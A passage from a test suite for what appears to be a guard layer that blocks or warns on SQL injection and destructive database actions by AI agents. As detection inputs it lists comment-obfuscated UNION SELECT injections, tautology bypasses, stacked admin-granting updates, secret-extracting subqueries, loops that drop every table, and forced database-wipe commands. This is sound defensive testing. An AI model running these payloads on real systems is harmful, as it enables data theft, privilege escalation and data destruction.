      expectLayerVerdict(
        layer,
        { action: "bash", target: 'git commit -m "Drop table support"' },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        { action: "run_python", content: 'cur.execute("DELETE FROM s WHERE id = ?", (i,))' },
        "ALLOW",
      );
    });
  });

  describe("age-bounded deletes", () => {
    test("WARNs a DELETE bounded by a time expression whatever the column is called", () => {
      expectCode(
        layer,
        sql("DELETE FROM visits WHERE last_seen < NOW() - INTERVAL '60 days'"),
        "SQL_BULK_DELETE",
      );
      expectLayerVerdict(
        layer,
        sql("DELETE FROM events WHERE received < DATEADD(day, -30, GETDATE())"),
        "WARN",
      );
      expectLayerVerdict(layer, sql("DELETE FROM logs WHERE logged < '2023-01-01'"), "WARN");
    });

    test("ALLOWs removing what has expired", () => {
      expectLayerVerdict(layer, sql("DELETE FROM reset_tokens WHERE expires_at < NOW()"), "ALLOW");
    });
  });

  describe("inline comments used as spaces", () => {
    test("BLOCKs UNION/**/SELECT whose keywords are separated only by comments", () => {
      expectCode(
        layer,
        arg("3/**/UNION/**/SELECT/**/login,pass/**/FROM/**/staff--"),
        "SQL_UNION_INJECTION",
      );
      expectCode(
        layer,
        url("id=9/*a*/union/*b*/select/*c*/secret/*d*/from/*e*/vault"),
        "SQL_UNION_INJECTION",
      );
      expectCode(
        layer,
        sql("SELECT sku FROM items WHERE id = 4/**/UNION/**/SELECT/**/pin/**/FROM/**/cards"),
        "SQL_UNION_INJECTION",
      );
    });

    test("BLOCKs a quote breakout whose condition is spaced by comments", () => {
      expectCode(layer, arg("bob'/**/OR/**/5>2/**/#"), "SQL_TAUTOLOGY");
    });

    test("still BLOCKs a keyword split by a comment (UN/**/ION)", () => {
      expectLayerVerdict(layer, arg("1 UN/**/ION SEL/**/ECT passwd FROM accounts"), "BLOCK");
    });

    test("ALLOWs a query with an ordinary block comment", () => {
      expectLayerVerdict(
        layer,
        sql("SELECT /* hot path */ id, title FROM posts WHERE id = 3"),
        "ALLOW",
      );
    });
  });

  describe("mention vs use", () => {
    test("ALLOWs a stored article whose literal quotes an injection", () => {
      expectLayerVerdict(
        layer,
        sql(
          "INSERT INTO guides (title, body) VALUES ('Input handling', 'Never concatenate: a value like '' OR 7=7 -- turns the filter off for every row, so bind it.')",
        ),
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        sql(
          "UPDATE faq SET answer = 'Operators sometimes run TRUNCATE TABLE scratch_rows; at night once the export job has finished successfully.' WHERE id = 14",
        ),
        "ALLOW",
      );
    });

    test("BLOCKs the same literal when the statement executes it", () => {
      expectLayerVerdict(
        layer,
        sql(
          "EXECUTE('SELECT * FROM staff WHERE nick = '''' OR 7=7 -- so that every single row comes back to us')",
        ),
        "BLOCK",
      );
    });

    test("ALLOWs a ticket or chat message that describes a payload in a sentence", () => {
      expectLayerVerdict(
        layer,
        {
          action: "open_incident",
          params: {
            body: "Scanner traffic today: the id field received 2 UNION SELECT name, hash FROM admins and was rejected by validation.",
          },
        },
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        arg("how do I union select rows from two tables in mysql"),
        "ALLOW",
      );
    });

    test("BLOCKs a payload in a ticket field when it stands alone", () => {
      expectLayerVerdict(
        layer,
        { action: "open_incident", params: { body: "zz' UNION SELECT name, hash FROM admins--" } },
        "BLOCK",
      );
    });
  });

  describe("filter languages and store deletes", () => {
    test("BLOCKs an always-true OData / SCIM condition", () => {
      expectCode(layer, arg("title eq 'q' or 2 eq 2"), "SQL_TAUTOLOGY");
      expectLayerVerdict(layer, arg("status eq 'open' and priority gt 2"), "ALLOW");
    });

    test("BLOCKs TRUNCATE TABLE IF EXISTS", () => {
      expectCode(layer, sql("TRUNCATE TABLE IF EXISTS billing.ledger_entries"), "SQL_TRUNCATE");
    });

    test("WARNs a many-delete bounded by a date range and ALLOWs one by key", () => {
      const del = (filter: unknown): ProtectRequest => ({
        action: "mongo_delete_many",
        params: { database: "shop", collection: "audit", filter },
      });
      expectCode(layer, del({ at: { $lt: "2022-12-31" } }), "SQL_BULK_DELETE");
      expectLayerVerdict(layer, del({ orderId: "o-5531" }), "ALLOW");
    });
  });

  describe("conditions that select every row and framework wipes", () => {
    test("BLOCKs a delete or update whose only condition every key satisfies", () => {
      expectCode(layer, sql("DELETE FROM receipts WHERE id > 0"), "SQL_UNBOUNDED_DELETE");
      expectCode(
        layer,
        sql("UPDATE plans SET price = 0 WHERE pk IS NOT NULL"),
        "SQL_UNBOUNDED_UPDATE",
      );
      expectLayerVerdict(layer, sql("DELETE FROM receipts WHERE id > 900 AND batch = 4"), "ALLOW");
      expectLayerVerdict(layer, sql("DELETE FROM receipts WHERE voided_at IS NOT NULL"), "ALLOW");
    });

    test("BLOCKs framework commands that wipe a database without their safety prompt", () => {
      const sh = (target: string): ProtectRequest => ({ action: "shell_exec", target });
      expectCode(layer, sh("pnpm prisma migrate reset -f"), "SQL_DROP_DATABASE");
      expectCode(layer, sh("php artisan db:wipe --force"), "SQL_DROP_DATABASE");
      expectCode(layer, sh("python3 manage.py flush --no-input"), "SQL_DROP_DATABASE");
      expectCode(
        layer,
        sh("bin/rails db:purge DISABLE_DATABASE_ENVIRONMENT_CHECK=1"),
        "SQL_DROP_DATABASE",
      );
      expectLayerVerdict(layer, sh("python3 manage.py migrate --no-input"), "ALLOW");
      expectLayerVerdict(layer, sh("php artisan migrate --force"), "ALLOW");
    });
  });

  test("the pipeline BLOCKs an injection and ALLOWs the same query done right", () => {
    assert.equal(verdictOf(quoted("' OR '2'='2")), "BLOCK");
    assert.equal(verdictOf(quoted("kate.smith")), "ALLOW");
  });

  test("reads the end of a statement longer than its bound", () => {
    const padding = "SELECT a FROM t WHERE b = 1;\n".repeat(4_000);
    expectLayerVerdict(layer, sql(`${padding}DROP TABLE customers;`), "BLOCK");
  });

  describe("round 4 families", () => {
    test("BLOCKs destruction inside dynamic SQL: per-table procedures, EXECUTE of a string, PL/pgSQL loops", () => {
      expectCode(
        layer,
        sql("EXEC sp_MSforeachtable @command1 = 'DELETE FROM ?'"),
        "SQL_UNBOUNDED_DELETE",
      );
      expectCode(
        layer,
        sql("EXEC sp_MSforeachdb 'IF ''?'' <> ''master'' DROP DATABASE [?]'"),
        "SQL_DROP_DATABASE",
      );
      expectCode(
        layer,
        sql("BEGIN EXECUTE IMMEDIATE 'TRUNCATE TABLE ledger'; END;"),
        "SQL_TRUNCATE",
      );
      expectCode(
        layer,
        sql(
          "DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE 'DROP TABLE ' || quote_ident(r.tablename); END LOOP; END $$;",
        ),
        "SQL_DROP_TABLE",
      );
      expectCode(layer, sql("EXECUTE format('TRUNCATE %I CASCADE', t)"), "SQL_TRUNCATE");
      expectCode(
        layer,
        sql("SET @q = 'DELETE FROM payments'; PREPARE s FROM @q; EXECUTE s;"),
        "SQL_UNBOUNDED_DELETE",
      );
      expectLayerVerdict(
        layer,
        sql("EXEC sp_MSforeachtable 'UPDATE STATISTICS ? WITH FULLSCAN'"),
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        sql("EXECUTE IMMEDIATE 'DELETE FROM tokens WHERE expires_at < SYSDATE'"),
        "ALLOW",
      );
    });

    test("BLOCKs a stacked UPDATE or INSERT after an id value", () => {
      expectCode(
        layer,
        arg("77; UPDATE staff SET is_admin = 1 WHERE login = 'eve'"),
        "SQL_STACKED_QUERY",
      );
      expectCode(layer, arg("77; update public.staff set role = 'owner' --"), "SQL_STACKED_QUERY");
      expectLayerVerdict(layer, arg("77; ask about the update set for next week"), "ALLOW");
    });

    test("BLOCKs a catalog or secret subquery concatenated into a string value", () => {
      expectCode(
        layer,
        sql(
          "SELECT * FROM docs WHERE title LIKE '%' || (SELECT group_concat(name) FROM sqlite_master) || '%'",
        ),
        "SQL_CONCAT_SUBQUERY",
      );
      expectCode(
        layer,
        sql("SELECT * FROM docs WHERE slug = '' + (SELECT TOP 1 api_key FROM dbo.clients) + ''"),
        "SQL_CONCAT_SUBQUERY",
      );
      expectLayerVerdict(
        layer,
        sql("SELECT 'Open tickets: ' || (SELECT count(*) FROM tickets) AS banner"),
        "ALLOW",
      );
    });

    test("ALLOWs a payload kept as data by a doubled-quote escape inside a literal", () => {
      expectLayerVerdict(
        layer,
        sql("INSERT INTO posts (body) VALUES ('my login is bob''; DROP TABLE posts;-- haha')"),
        "ALLOW",
      );
      expectCode(layer, sql("EXEC('SELECT 1; DROP TABLE posts')"), "SQL_DROP_TABLE");
    });

    test("ALLOWs prose that quotes payloads in Markdown code spans, BLOCKs backticks used as identifiers", () => {
      expectLayerVerdict(
        layer,
        {
          action: "gitlab.create_note",
          params: {
            body: "The handler concatenates input, so `1; DROP TABLE carts--` would run as a second statement and `' OR 1=1 --` skips the filter. Please switch to placeholders before we merge this change.",
          },
        },
        "ALLOW",
      );
      expectCode(
        layer,
        arg("1 UNION SELECT `login`, `passwd` FROM `staff`-- -"),
        "SQL_UNION_INJECTION",
      );
    });

    test("ALLOWs a translated sentence that quotes a tautology mid-sentence", () => {
      expectLayerVerdict(
        layer,
        {
          action: "translate_text",
          params: {
            text: "Exemple : un attaquant saisit ' OR '1'='1 dans le champ pour contourner la connexion.",
          },
        },
        "ALLOW",
      );
    });

    test("BLOCKs ClickHouse mutations and MERGE that touch every row; WARNs a sync delete", () => {
      expectCode(layer, sql("ALTER TABLE hits DELETE WHERE 1"), "SQL_UNBOUNDED_DELETE");
      expectCode(
        layer,
        sql("ALTER TABLE hits UPDATE plan = 'x' WHERE 1 = 1"),
        "SQL_UNBOUNDED_UPDATE",
      );
      expectCode(
        layer,
        sql("MERGE INTO t USING s ON (1 = 1) WHEN MATCHED THEN DELETE"),
        "SQL_UNBOUNDED_DELETE",
      );
      expectLayerVerdict(
        layer,
        sql("MERGE t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE"),
        "WARN",
      );
      expectLayerVerdict(layer, sql("ALTER TABLE hits DELETE WHERE user_id = 5"), "ALLOW");
    });

    test("BLOCKs a data-modifying CTE that deletes everything", () => {
      expectCode(
        layer,
        sql("WITH x AS (DELETE FROM invoices RETURNING id) SELECT count(*) FROM x"),
        "SQL_UNBOUNDED_DELETE",
      );
      expectLayerVerdict(
        layer,
        sql("WITH x AS (DELETE FROM jobs WHERE id = 9 RETURNING *) SELECT * FROM x"),
        "ALLOW",
      );
    });

    test("WARNs a range-bounded deleteMany written as code, not an expiry purge", () => {
      const mongo = (content: string): ProtectRequest => ({ action: "mongo_shell", content });
      expectCode(
        layer,
        mongo("db.audit.deleteMany({ at: { $lt: ISODate('2022-01-01') } })"),
        "SQL_BULK_DELETE",
      );
      expectLayerVerdict(
        layer,
        mongo("db.sessions.deleteMany({ expiresAt: { $lt: new Date() } })"),
        "ALLOW",
      );
      expectLayerVerdict(
        layer,
        mongo("db.audit.find({ at: { $lt: ISODate('2022-01-01') } })"),
        "ALLOW",
      );
    });

    test("WARNs a DELETE or UPDATE whose params preview many affected rows", () => {
      const run = (content: string, params: Record<string, unknown>): ProtectRequest => ({
        action: "execute_sql",
        content,
        params,
      });
      expectCode(
        layer,
        run("UPDATE plans SET tier = 'basic' WHERE tier = 'pro'", { rows_affected: 9800 }),
        "SQL_MASS_CHANGE",
      );
      expectLayerVerdict(
        layer,
        run("UPDATE plans SET tier = 'basic' WHERE id = 4", { rows_affected: 1 }),
        "ALLOW",
      );
      expectLayerVerdict(layer, run("SELECT * FROM plans", { estimated_rows: 90_000 }), "ALLOW");
    });

    test("BLOCKs an injected query inside a program run by an unknown tool", () => {
      expectCode(
        layer,
        {
          action: "deno_run",
          content: "await client.query(\"SELECT * FROM staff WHERE login = 'x' OR '1'='1'\")",
        },
        "SQL_TAUTOLOGY",
      );
      expectLayerVerdict(
        layer,
        {
          action: "deno_run",
          content: 'await client.query("SELECT * FROM staff WHERE login = $1 OR email = $1", [q])',
        },
        "ALLOW",
      );
    });
  });
});
